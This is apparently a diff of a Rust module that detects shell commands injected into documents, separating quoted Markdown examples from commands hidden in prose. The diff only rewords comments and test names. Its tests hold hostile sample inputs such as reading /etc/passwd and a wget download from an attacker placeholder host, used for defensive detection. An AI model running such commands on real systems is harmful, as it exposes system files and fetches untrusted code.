@@ -1,5 +1,5 @@
-//! Documents: posts and files of many lines. They quote commands where Markdown has them quoted: in fences, between
-//! backticks, indented. What is left is read line by line, so that prose around a command does not hide it.
+//! Commands in documents. Markdown quotes code in fences, between backticks and by indentation;
+//! each other line is inspected alone, so that prose around a command does not hide it.
 
 use super::{may_hold_command, shell};
 use crate::{detect::Match, field::FieldKind, prefilter::Bytes};
@@ -27,14 +27,14 @@ pub(super) fn detect(value: &[u8], kind: FieldKind) -> Option<Match<'static>> {
     None
 }
 
-/// Indented code, a heading, a prompt, the row of a table.
+/// Indented code, a heading, a prompt or the row of a table.
 fn is_quoted(line: &[u8], text: &[u8]) -> bool {
     let is_marked = matches!(text, [b'$' | b'#' | b'>' | b'%', b' ', ..]) || text.starts_with(b"##");
     let is_row = matches!(text, [b'|', cells @ ..] if memchr::memchr(b'|', cells).is_some_and(|at| at > 0));
     line.starts_with(b"    ") || line.starts_with(b"\t") || is_marked || is_row
 }
 
-/// Alone on its line, a command is an example. One that breaks out of something stands after it.
+/// A command alone on its line is an example; an injected one follows other content.
 fn opens(found: &Match<'_>, line: &[u8]) -> bool {
     let is_first = found.span.start == 0 && line.first().is_some_and(u8::is_ascii_alphanumeric);
     is_first
@@ -44,7 +44,7 @@ fn opens(found: &Match<'_>, line: &[u8]) -> bool {
         )
 }
 
-/// The line with blanks for what stands between backticks.
+/// The line with blanks in place of code between backticks.
 fn without_spans(line: &[u8]) -> Cow<'_, [u8]> {
     if memchr::memchr(b'`', line).is_none() {
         return Cow::Borrowed(line);
@@ -77,7 +77,7 @@ mod tests {
     }
 
     #[test]
-    fn prose_around_a_command_does_not_hide_it() {
+    fn finds_commands_inside_prose() {
         for line in [
             "; cat /etc/passwd",
             "x; wget http://evil.example/x -O /tmp/x",
@@ -91,13 +91,13 @@ mod tests {
     }
 
     #[test]
-    fn a_command_before_prose_is_no_title() {
+    fn finds_a_command_before_prose() {
         let text = format!("cat /etc/passwd\n{PROSE}{PROSE}");
         assert!(detect(text.as_bytes(), FieldKind::Value).is_some());
     }
 
     #[test]
-    fn what_a_post_quotes_is_quoted() {
+    fn passes_quoted_commands() {
         for line in [
             "```\ncd /tmp; cat /etc/passwd\n```",
             "    ls -la | grep x; cat /etc/passwd",
